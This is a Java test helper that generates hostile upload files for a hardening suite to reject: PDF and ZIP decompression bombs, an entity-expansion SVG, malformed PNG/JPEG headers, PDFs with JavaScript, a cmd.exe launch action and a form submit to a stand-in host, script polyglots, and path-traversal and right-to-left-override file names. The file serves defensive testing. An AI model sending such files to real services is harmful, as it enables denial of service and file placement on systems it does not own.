package id.pulih.hardening;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;

/** Files that no scanner makes, built here: none of them lies in the repository. */
final class HostileFiles {

    record Hostile(String fileName, String type, byte[] content) {}

    private HostileFiles() {}

    /** Each must be refused. */
    static Map<String, Hostile> all() {
        var files = new LinkedHashMap<String, Hostile>();
        pictures(files);
        names(files);
        documents(files);
        others(files);
        return files;
    }

    private static void pictures(Map<String, Hostile> to) {
        byte[] png = picture("png");
        byte[] jpeg = picture("jpg");
        to.put("PNG of 50,000 by 50,000", png(header(50_000, 50_000)));
        to.put("PNG of 2 to the 31st", png(header(Integer.MAX_VALUE, Integer.MAX_VALUE)));
        to.put("PNG of no height", png(header(10, 0)));
        to.put("PNG of negative width", png(header(-5, 10)));
        to.put("PNG without header", png(join(Arrays.copyOf(png, 8), Arrays.copyOfRange(png, 33, png.length))));
        to.put("PNG cut off", png(Arrays.copyOf(png, png.length - 15)));
        to.put("PNG with a piece of 2 GB", png(join(Arrays.copyOf(png, 33), new byte[] {0x7F, -1, -1, -1, 'I', 'D', 'A', 'T'})));
        to.put("PNG signature alone", png(Arrays.copyOf(png, 8)));
        to.put("JPEG of 65,500 by 65,500", new Hostile("a.jpg", "image/jpeg", resized(jpeg, 65_500)));
        to.put("JPEG of no size", new Hostile("a.jpg", "image/jpeg", resized(jpeg, 0)));
        to.put("JPEG cut off", new Hostile("a.jpg", "image/jpeg", Arrays.copyOf(jpeg, jpeg.length / 2)));
        to.put("JPEG without a picture", new Hostile("a.jpg", "image/jpeg", new byte[] {-1, (byte) 0xD8, -1, (byte) 0xD9}));
        to.put("JPEG with a wrong length", new Hostile("a.jpg", "image/jpeg", join(Arrays.copyOf(jpeg, 2), new byte[] {-1, (byte) 0xE1, 0, 0})));
        to.put("PNG called JPEG by its type", new Hostile("a.png", "image/jpeg", png));
        to.put("GIF that is a script", new Hostile("a.png", "image/png", bytes("GIF89a/*<script>*/=alert(1)")));
    }

    private static void names(Map<String, Hostile> to) {
        byte[] png = picture("png");
        to.put("page by its name", new Hostile("a.html", "image/png", png));
        to.put("program by its name", new Hostile("foto.png.exe", "image/png", png));
        to.put("name that reads backwards", new Hostile("foto\u202Egnp.exe", "image/png", png));
        to.put("script by its name", new Hostile("../../webapps/a.jsp", "image/png", png));
        to.put("PDF by its name", new Hostile("a.pdf", "image/png", png));
    }

    private static void documents(Map<String, Hostile> to) {
        to.put("PDF with a script", pdf(scan("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "")));
        to.put("PDF with a script by another spelling", pdf(scan("/Names<</#4aavaScript<</Names[(a) 9 0 R]>>>>", "9 0 obj<</S/J#61vaScript/JS(1)>>endobj\n")));
        to.put("PDF that starts a program", pdf(scan("/OpenAction 9 0 R", "9 0 obj<</S/Launch/F(cmd.exe)>>endobj\n")));
        to.put("PDF with a file inside", pdf(scan("/Names<</EmbeddedFiles<</Names[(a) 9 0 R]>>>>", "9 0 obj<</Type/Filespec/EF<<>>>>endobj\n")));
        to.put("PDF that sends a form", pdf(scan("/OpenAction<</S/SubmitForm/F(http://jahat.example)>>", "")));
        to.put("PDF with an XFA form", pdf(scan("/AcroForm<</XFA(<x/>)/Fields[]>>", "")));
        to.put("PDF that is encrypted", pdf(bytes(new String(scan("", ""), StandardCharsets.ISO_8859_1).replace("/Root", "/Encrypt<</Filter/Standard>>/Root"))));
        to.put("PDF with a bomb", pdf(bomb("/Filter/FlateDecode", deflater(new byte[200 * 1024 * 1024]))));
        to.put("PDF with a bomb by another spelling", pdf(bytes(new String(bomb("/Filter/FlateDecode", deflater(new byte[200 * 1024 * 1024])),
                StandardCharsets.ISO_8859_1).replace("ObjStm", "Obj#53tm"))));
        to.put("PDF packed twice", pdf(bomb("/Filter[/FlateDecode/FlateDecode]", deflater(deflater(new byte[50 * 1024 * 1024])))));
        to.put("PDF of 500 pages", pdf(pages(500)));
        to.put("PDF without pages", pdf(pages(0)));
        to.put("PDF cut off", pdf(Arrays.copyOf(scan("", ""), 100)));
        to.put("PDF nested without end", pdf(bytes("%PDF-1.7\n1 0 obj" + "[".repeat(500_000) + "\ntrailer<</Root 1 0 R>>\n%%EOF")));
        to.put("page that begins like a PDF", pdf(bytes("%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF")));
    }

    private static void others(Map<String, Hostile> to) {
        to.put("SVG that laughs", new Hostile("a.svg", "image/svg+xml", bytes("<!DOCTYPE s [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><svg xmlns='http://www.w3.org/2000/svg'>&b;</svg>")));
        to.put("SVG called PNG", png(bytes("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")));
        to.put("ZIP bomb", new Hostile("a.zip", "application/zip", zip("a")));
        to.put("ZIP with a way out, called PDF", pdf(zip("../../etc/cron.d/a")));
        to.put("office file", new Hostile("a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", zip("xl/workbook.xml")));
        to.put("program", new Hostile("a.png", "image/png", bytes("MZ\u0090\0")));
        to.put("page", new Hostile("a.html", "text/html", bytes("<script>alert(1)</script>")));
        to.put("nothing but zeros", png(new byte[4096]));
    }

    static byte[] picture(String format) {
        try {
            var bytes = new ByteArrayOutputStream();
            ImageIO.write(new BufferedImage(40, 30, BufferedImage.TYPE_INT_RGB), format, bytes);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** One page; the first text goes into the catalogue, the second among the objects. */
    static byte[] scan(String catalogue, String objects) {
        return bytes("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + catalogue + ">>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n" + objects + "trailer<</Root 1 0 R/Size 10>>\n%%EOF\n");
    }

    static byte[] bytes(String text) {
        return text.getBytes(text.chars().allMatch(c -> c < 256) ? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8);
    }

    private static byte[] pages(int count) {
        try (var document = new PDDocument()) {
            for (int n = 0; n < count; n++) {
                document.addPage(new PDPage());
            }
            var bytes = new ByteArrayOutputStream();
            document.save(bytes);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] bomb(String filter, byte[] packed) {
        byte[] start = bytes("9 0 obj<</Type/ObjStm/N 1/First 4/Length " + packed.length + filter + ">>stream\n");
        String scan = new String(scan("", "@"), StandardCharsets.ISO_8859_1);
        return join(join(join(bytes(scan.substring(0, scan.indexOf('@'))), start), packed), bytes("\nendstream endobj\n" + scan.substring(scan.indexOf('@') + 1)));
    }

    private static byte[] deflater(byte[] content) {
        var deflater = new Deflater(9);
        deflater.setInput(content);
        deflater.finish();
        var bytes = new ByteArrayOutputStream();
        byte[] some = new byte[64 * 1024];
        while (!deflater.finished()) {
            bytes.write(some, 0, deflater.deflate(some));
        }
        deflater.end();
        return bytes.toByteArray();
    }

    private static byte[] zip(String entry) {
        try {
            var bytes = new ByteArrayOutputStream();
            try (var zip = new ZipOutputStream(bytes)) {
                zip.putNextEntry(new ZipEntry(entry));
                zip.write(new byte[20 * 1024 * 1024]);
            }
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] header(int width, int height) {
        byte[] png = picture("png");
        var crc = new CRC32();
        ByteBuffer.wrap(png).putInt(16, width).putInt(20, height);
        crc.update(png, 12, 17);
        ByteBuffer.wrap(png).putInt(29, (int) crc.getValue());
        return png;
    }

    private static byte[] resized(byte[] jpeg, int size) {
        byte[] copy = jpeg.clone();
        for (int at = 0; at < copy.length - 9; at++) {
            if (copy[at] == -1 && copy[at + 1] == (byte) 0xC0) {
                ByteBuffer.wrap(copy).putShort(at + 5, (short) size).putShort(at + 7, (short) size);
            }
        }
        return copy;
    }

    private static byte[] join(byte[] one, byte[] two) {
        byte[] both = Arrays.copyOf(one, one.length + two.length);
        System.arraycopy(two, 0, both, one.length, two.length);
        return both;
    }

    private static Hostile png(byte[] content) {
        return new Hostile("a.png", "image/png", content);
    }

    private static Hostile pdf(byte[] content) {
        return new Hostile("a.pdf", "application/pdf", content);
    }
}
